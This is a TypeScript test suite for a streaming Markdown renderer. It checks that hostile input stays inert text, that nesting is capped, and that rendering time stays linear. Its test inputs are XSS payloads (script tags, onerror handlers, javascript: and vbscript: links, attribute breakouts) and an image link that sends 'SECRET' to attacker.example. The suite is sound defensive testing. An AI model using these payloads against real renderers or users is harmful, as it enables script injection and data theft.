import { expect } from 'chai';
import * as fc from 'fast-check';
import { tries } from '../support/seed.js';

import { MarkdownWriter } from '../../src/markdown/index.js';
import { describeWithFixtures, fixtureJson, slowness } from '../support/index.js';
import { render } from './render.js';
import { type Hostile, textOf, unsafe } from './unsafe.js';

const hrefs = (root: Element): string[] => [...root.querySelectorAll('a')].map(({ href }) => href);

/** The addresses of links and images in a whole text. */
function addressesIn(text: string): Set<string> {
  const all = new Set<string>();
  render(text, { address: (_element, url) => void all.add(url) });
  return all;
}

/** The same after each piece as at the end; no address is there before all of it is. */
function expectSafe(pieces: string[], name: string): HTMLElement {
  const root = document.createElement('div');
  const writer = new MarkdownWriter(root);
  const early = new Set<string>();
  for (const piece of pieces) {
    writer.write(piece);
    expect(unsafe(root), name).to.deep.equal([]);
    for (const href of hrefs(root)) early.add(href);
  }
  writer.end();
  expect(unsafe(root), name).to.deep.equal([]);
  const text = pieces.join('');
  // What a formula takes in, once its second dollar is there, was behind a price before that.
  const whole = early.size ? [...addressesIn(text), ...addressesIn(text.replaceAll('$', '$ '))] : [];
  expect(
    [...early].filter((href) => !whole.includes(href)),
    `${name}: half an address`,
  ).to.deep.equal([]);
  return root;
}

describe('hostile markdown', () => {
  const inputs = [
    '<script>alert(1)</script><img src=x onerror=alert(1)>',
    '![x](https://attacker.example/p?q=SECRET) ![y][1]\n\n[1]: /logout "t"',
    '[a](javascript:alert(1)) <javascript:alert(1)> [b](<data:text/html,x>) [c]\n\n[c]: vbscript:x',
    '[a](https://x.example "\\" onclick=alert(1)") [b](https://x.example/" onclick="y)',
    '```js" onclick="x\n</code></pre><script>x</script>\n```',
    '| a" onclick=x |\n|:-:|\n| <style>*{}</style> |',
    '1"onclick=x. a\n\n<form id=x><input name=y></form>\n\n<a href="https://x.example" style="position:fixed">b</a>',
    '|-|https://a.example/|<img src=x>\n<img src=x>',
    '$https://a.example/<img src=x>$<img src=x>',
    '[constructor][__proto__] [toString]\n\n| constructor | b |\n|---|---|\n',
    "https://a.example/!+@b.example'<img src=x>",
  ];
  for (const input of inputs) {
    it(`stays text: ${input.slice(0, 40)}`, () => {
      expectSafe(Array.from(input), input);
      expectSafe([input], input);
    });
  }

  it('keeps what a reader should see', () => {
    const html = '<b onclick="x">bold</b> <script>go()</script>';
    expect(render(html).textContent).to.equal(html);
  });

  it('writes nothing but the few elements and attributes, whatever comes', () => {
    const bits = [
      '<img src=x>',
      '![',
      '](',
      'javascript:x',
      'https://a.example/',
      'www.b.example',
      'a@b.example',
      ')',
      '"',
      '!',
      '$',
      '*',
      '<sub ',
      '<a href=',
      '>',
      '\n',
      '```',
      '|',
      '|-|',
      '- ',
    ];
    const text = fc.array(fc.oneof(fc.constantFrom(...bits), fc.string()), { maxLength: 30 });
    fc.assert(
      fc.property(text, (pieces) => void expectSafe(pieces, pieces.join(''))),
      tries(200),
    );
  });

  it('nests no deeper than a page can bear', () => {
    for (const unit of ['> ', '- ', '1. ', '**a *b ', '[', '*', '> - ', '![']) {
      const root = render(`${unit.repeat(5000)}x ${unit.trim().repeat(50)}`);
      let depth = 0;
      for (let element = root as Element | null; element; element = deepest(element)) depth++;
      expect(depth, unit).to.be.lessThan(200);
    }
  });

  describe('takes time in proportion to its length', () => {
    /** Four times the text; quadratic would be sixteen times the time. Clocks are coarse, so small times do not count. */
    function expectLinear(textOf: (count: number) => string): void {
      const time = (count: number): number => {
        const text = textOf(count);
        const start = performance.now();
        render(text);
        return performance.now() - start;
      };
      const few: number[] = [];
      const many: number[] = [];
      const isLinear = (): boolean => {
        const ratios = many.map((ms, round) => ms / Math.max(few[round]!, 8)).sort((a, b) => a - b);
        const least = Math.min(...many) / Math.max(Math.min(...few), 8);
        return Math.min(least, ratios[Math.floor(ratios.length / 2)]!) < 9;
      };
      // The first round is cold. What runs beside a round makes it longer, never shorter.
      for (let round = 0; round < 2 || (round < 9 && !isLinear()); round++) {
        few.push(time(5000));
        many.push(time(20_000));
      }
      expect(isLinear(), `${few.join(', ')} ms, then ${many.join(', ')} ms`).to.equal(true);
    }

    const units = {
      quotes: '> ',
      items: '- ',
      emphasis: '_a_',
      openers: '*a **b ',
      links: '[a](',
      titles: '[x](y "',
      brackets: '[',
      closers: '[a]',
      images: '![',
      backticks: 'a`',
      runs: '`a ``b ',
      less: '<',
      entities: '&',
      escapes: '\\',
      bars: '| ',
      rules: '* ',
      spaces: '  x',
      definitions: '[a]: b\n',
      fences: '```\n',
      words: 'word ',
      paragraphs: 'a *b*\n\n',
      mails: '<a@',
      formulas: '$a ',
      'formulas that close': '\\(a\\)',
      'open brackets of formulas': '\\[a ',
      footnotes: '[^1]',
      'many footnotes': '[^1]: a\n\n[^1] ',
      tags: '<sub>a ',
      'open tags': '<kbd a ',
      addresses: 'www.a.example/',
      'bare mails': 'a@b.',
      parentheses: '[a](((',
      rows: '| a\n|-|\n',
    };
    for (const [name, unit] of Object.entries(units)) {
      it(name, () => expectLinear((count) => `${unit.repeat(count)}x`));
    }

    const texts: Record<string, (count: number) => string> = {
      'short lines that come at once': (count) => `\`\`\`\n${'日\n'.repeat(20 * count)}`,
      'formulas of many lines': (count) => `$$\n${'x = y\n'.repeat(count)}`,
      'notes of many names': (count) => {
        const names = Array.from({ length: count / 10 }, (_, index) => `[^${index}]`);
        return `${names.join(' ')}\n\n${names.map((name) => `${name}: a\n`).join('')}`;
      },
    };
    for (const [name, textOf] of Object.entries(texts)) it(name, () => expectLinear(textOf));

    /** The work of one delta is the same, however much came before. */
    function expectSame(work: () => void, grow: () => void): void {
      const time = (): number => {
        const start = performance.now();
        work();
        return performance.now() - start;
      };
      work();
      const early = Math.min(time(), time(), time());
      grow();
      let late = Infinity;
      for (let round = 0; round < 3 || (round < 8 && late >= 4 * Math.max(early, 8)); round++)
        late = Math.min(late, time());
      expect(late, `${early} ms, then ${late} ms`).to.be.lessThan(4 * Math.max(early, 8));
    }

    it('each delta of a long answer', () => {
      const block = 'Some *text* with `code`.\n\n- item\n- item\n\n```\ncode\n```\n\n';
      const writer = new MarkdownWriter(document.createElement('div'));
      const write = (): void => {
        for (let round = 0; round < 10; round++) for (const character of block) writer.write(character);
      };
      expectSame(write, () => writer.write(block.repeat(2000)));
    });

    it('each delta of a formula without an end', () => {
      const writer = new MarkdownWriter(document.createElement('div'));
      const write = (times: number): void => {
        for (let round = 0; round < times; round++) writer.write('x +\ny ');
      };
      writer.write(`$$\n${'x +\ny '.repeat(5000)}`);
      expectSame(
        () => write(400),
        () => writer.write('x +\ny '.repeat(20_000)),
      );
    });
  });
});

const deepest = (element: Element): Element | null =>
  [...element.children].reduce<Element | null>(
    (best, child) =>
      !best || child.querySelectorAll('*').length > best.querySelectorAll('*').length ? child : best,
    null,
  );

describeWithFixtures('the collection of hostile markdown', () => {
  interface Benign {
    id: string;
    input: string;
    text: string;
    text_one_of?: string[];
    elements?: Record<string, number>;
  }
  let collection: { hostile: Hostile[]; benign: Benign[] };
  before(async () => {
    collection = await fixtureJson('hostile/xss-markdown.json');
  });

  it('leaves nothing unsafe, whole or in pieces', function () {
    for (const one of collection.hostile) {
      const { id, chunks } = one;
      const text = textOf(one);
      const whole = expectSafe([text], id);
      if (text.length > 2000) continue;
      expect(expectSafe(Array.from(text), id).isEqualNode(whole), id).to.equal(true);
      if (chunks) expect(expectSafe(chunks, id).isEqualNode(whole), id).to.equal(true);
    }
  });

  it('keeps all words of what is no Markdown', () => {
    const words = (text: string): string => text.replace(/[^a-z\d]+/gi, '');
    const plain = collection.hostile.filter(
      (one) =>
        !/[[\]&\\`]|<\/?(?:br|sub|sup|kbd|mark|details|summary)\b|^\s*[\d|~]|[-|:]{3}/im.test(textOf(one)),
    );
    expect(plain.length).to.be.greaterThan(300);
    for (const one of plain)
      expect(words(render(textOf(one)).textContent), one.id).to.equal(words(textOf(one)));
  });

  it('takes no longer for each than it says, however it is built', () => {
    for (const one of collection.hostile.filter(({ max_ms }) => max_ms)) {
      const text = textOf(one);
      const start = performance.now();
      render(text);
      const took = performance.now() - start;
      if (took > 3 * one.max_ms!) expect(took, one.id).to.be.lessThan(3 * one.max_ms! * slowness());
    }
  });

  it('leaves honest text alone', () => {
    for (const { id, input, text, text_one_of: others = [], elements = {} } of collection.benign) {
      const root = render(input);
      // A placeholder names the host beside the alternative text.
      const shown = root.textContent.replace('img.safe.example', '').replace(/\s+/g, '');
      expect(
        [text, ...others].map((one) => one.replace(/\s+/g, '')),
        id,
      ).to.include(shown);
      for (const [tag, count] of Object.entries(elements))
        expect(root.querySelectorAll(`${tag}:not(.group, .table)`).length, `${id} ${tag}`).to.equal(count);
    }
  });
});
